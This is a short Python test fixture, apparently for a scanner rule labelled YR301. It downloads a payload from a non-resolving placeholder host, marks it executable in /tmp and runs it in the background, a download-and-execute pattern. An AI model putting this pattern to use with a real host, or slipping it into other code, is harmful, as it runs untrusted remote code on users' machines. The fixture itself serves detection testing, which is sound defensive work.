# Inert fixture: the canary host never resolves (.invalid).
import os
import stat

import requests

r = requests.get("https://canary.modelgate.invalid/payload")  # expect: YR301
open("/tmp/modelgate-canary", "wb").write(r.content)
os.chmod("/tmp/modelgate-canary", os.stat("/tmp/modelgate-canary").st_mode | stat.S_IEXEC)
os.system("/tmp/modelgate-canary &")
